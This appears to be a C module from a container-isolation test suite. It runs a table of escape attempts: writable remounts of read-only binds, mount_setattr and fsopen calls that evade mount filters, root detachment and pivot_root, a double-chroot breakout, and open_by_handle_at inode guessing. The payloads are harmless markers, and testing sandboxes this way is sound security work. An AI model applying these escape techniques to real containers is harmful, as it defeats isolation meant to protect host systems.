/* The mounts that a container was given, and ways around its root. */
#include "escape.h"
#include <linux/mount.h>
#include <stdint.h>

#ifndef __NR_mount_setattr
#define __NR_mount_setattr (__NR_Linux + 442)
#endif

/* Makes a file in what is mounted at a directory of the device's, which the container has read-only. */
static void create_in(const char *directory)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/%s", directory, id);
	if (!append_at(AT_FDCWD, path)) note("%s", path);
}

static void as_it_is(void) { create_in("/lib"); }

static void remount_bind(void)
{
	if (mount(NULL, "/lib", NULL, MS_REMOUNT | MS_BIND, NULL) != 0) note("remount");
	create_in("/lib");
}

static void remount_file(void)
{
	static const char *const files[] = {"/bin/busybox", "/bin/sh", NULL};
	for (int i = 0; files[i] != NULL; i++) {
		mount(NULL, files[i], NULL, MS_REMOUNT | MS_BIND, NULL);
		/* BusyBox with one more bit: harmless, and the device sees it. */
		if (chmod(files[i], 01755) != 0) note("chmod %s", files[i]);
	}
}

static void bind_again(void)
{
	char path[PATH_MAX];
	const char *place = scratch();
	if (place == NULL) return;
	snprintf(path, sizeof(path), "%s/lib", place);
	mkdir(path, 0700);
	if (mount("/lib", path, NULL, MS_BIND, NULL) != 0) note("bind");
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) != 0) note("remount");
	create_in(path);
}

static void set_attributes(void)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	if (syscall(__NR_mount_setattr, AT_FDCWD, "/lib", 0, &attr, sizeof(attr)) != 0) note("mount_setattr");
	create_in("/lib");
}

static void open_tree_copy(void)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	int fd = syscall(__NR_open_tree, AT_FDCWD, "/lib", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (fd < 0) {
		note("open_tree");
		return;
	}
	if (syscall(__NR_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) != 0) note("mount_setattr");
	if (!append_at(fd, id)) note("create");
}

/* The same through the newer system calls, which a filter of mount(2) does not see. */
static void fsopen_devtmpfs(void)
{
	int context = syscall(__NR_fsopen, "devtmpfs", 0);
	if (context < 0) {
		note("fsopen");
		return;
	}
	if (syscall(__NR_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) != 0) note("fsconfig");
	int fd = syscall(__NR_fsmount, context, 0, 0);
	if (fd < 0) note("fsmount");
	else if (!append_at(fd, id)) note("create");
}

/* A mount that shows up on the device. */
static void propagate(void)
{
	char path[PATH_MAX];
	static const char *const shared[] = {"/escaped", "/lib", "/", NULL};
	for (int i = 0; shared[i] != NULL; i++) {
		mount(NULL, shared[i], NULL, MS_SHARED, NULL);
		snprintf(path, sizeof(path), "%s/seen", shared[i]);
		mkdir(path, 0700);
		if (mount(id, path, "tmpfs", 0, "size=64k") != 0) note("mount %s", path);
	}
}

static void detach_root(void)
{
	if (umount2("/", MNT_DETACH) != 0) note("umount /");
	reach_path("/");
	reach_path("/..");
}

static void detach_and_enter(void)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/self/ns/mnt", procfs());
	int own = open(path, O_RDONLY | O_CLOEXEC);
	if (own < 0) note("%s", path);
	/* On the device: the root of a container that was started by chroot alone. */
	if (strcmp(container, "device") == 0 ? chroot(scratch()) != 0 : umount2("/", MNT_DETACH) != 0) note("leave /");
	if (own >= 0 && setns(own, CLONE_NEWNS) != 0) note("setns");
	reach_path("/");
	reach_path("/..");
}

/* An initramfs cannot be left by pivot_root: a container that was only moved over it finds it below. */
static void move_root(void)
{
	char path[PATH_MAX];
	const char *place = scratch();
	if (place == NULL) return;
	snprintf(path, sizeof(path), "%s/moved", place);
	mkdir(path, 0700);
	if (mount("/", path, NULL, MS_MOVE, NULL) != 0) note("move /");
	if (chdir("/..") == 0) reach_path(".");
	if (syscall(__NR_pivot_root, ".", ".") != 0) note("pivot_root");
	reach_path("/");
	reach_path("/..");
}

static void pivot(void)
{
	char path[PATH_MAX];
	const char *root = fresh("tmpfs", NULL);
	if (root == NULL) return;
	snprintf(path, sizeof(path), "%s/old", root);
	mkdir(path, 0700);
	if (syscall(__NR_pivot_root, root, path) != 0) note("pivot_root");
	if (chdir("/old/..") == 0) reach_path(".");
	reach_path("/old");
}

static void double_chroot(void)
{
	char path[PATH_MAX];
	const char *place = scratch();
	if (place == NULL) return;
	snprintf(path, sizeof(path), "%s/jail", place);
	mkdir(path, 0700);
	int old = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chroot(path) != 0) note("chroot");
	if (old >= 0 && fchdir(old) != 0) note("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0) break;
	reach_path(".");
	if (chroot(".") == 0) reach_path("/");
}

static void new_sysfs(void)
{
	char file[PATH_MAX];
	const char *path = fresh("sysfs", NULL);
	if (path == NULL) return;
	snprintf(file, sizeof(file), "%s/module/printk/parameters/time", path);
	if (!write_file(file, "Y")) note("%s", file);
}

static void remount_sys(void)
{
	mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
	mount(NULL, "/sys", NULL, MS_REMOUNT, NULL);
	if (!write_file("/sys/module/printk/parameters/ignore_loglevel", "Y")) note("ignore_loglevel");
}

static void debugfs(void)
{
	if (fresh("debugfs", NULL) != NULL) linger();
}

static void tracefs(void)
{
	if (fresh("tracefs", NULL) != NULL) linger();
}

/* Handles of files: they name an inode of a file system, wherever it is mounted. */
static void by_handle(void)
{
	static const char *const bound[] = {"/lib", "/bin/busybox", "/bin/sh", "/dev/console", "/", NULL};
	struct {
		struct file_handle head;
		uint32_t inode, generation;
	} handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .inode = 2, .generation = 0};
	for (int i = 0; bound[i] != NULL; i++) {
		int mounted = open(bound[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
		if (mounted < 0) continue;
		int root = open_by_handle_at(mounted, &handle.head, O_RDONLY | O_DIRECTORY);
		if (root >= 0) reach(root);
		else note("open_by_handle_at by %s", bound[i]);
		close(mounted);
	}
}

/* Handles that are found by trying: a file of the device's whose number nobody tells. */
static void by_guessed_handle(void)
{
	struct {
		struct file_handle head;
		uint32_t inode, generation;
	} handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
	int mounted = open("/lib", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	for (handle.inode = 11; mounted >= 0 && handle.inode < 4000; handle.inode++) {
		char text[100];
		int fd = open_by_handle_at(mounted, &handle.head, O_RDONLY | O_NONBLOCK | O_NOCTTY);
		if (fd < 0 && (errno == EPERM || errno == ENOSYS || errno == EOPNOTSUPP)) {
			note("open_by_handle_at");
			return;
		}
		if (fd < 0) continue;
		struct stat found;
		if (fstat(fd, &found) == 0 && S_ISREG(found.st_mode)) {
			ssize_t count = read(fd, text, sizeof(text) - 1);
			if (count > 0) {
				text[count] = '\0';
				text[strcspn(text, "\n")] = '\0';
				if (strncmp(text, "only-the-device-", 16) == 0) told(text);
			}
		}
		close(fd);
	}
}

const struct attempt mounts[] = {
	{"bind-as-it-is", as_it_is},
	{"remount-bind", remount_bind},
	{"remount-file", remount_file},
	{"bind-again", bind_again},
	{"mount-setattr", set_attributes},
	{"open-tree", open_tree_copy},
	{"fsopen", fsopen_devtmpfs},
	{"propagate", propagate},
	{"detach-root", detach_root},
	{"detach-enter", detach_and_enter},
	{"move-root", move_root},
	{"pivot-root", pivot},
	{"double-chroot", double_chroot},
	{"new-sysfs", new_sysfs},
	{"remount-sys", remount_sys},
	{"debugfs", debugfs},
	{"tracefs", tracefs},
	{"handle-root", by_handle},
	{"handle-guess", by_guessed_handle},
	{NULL, NULL},
};
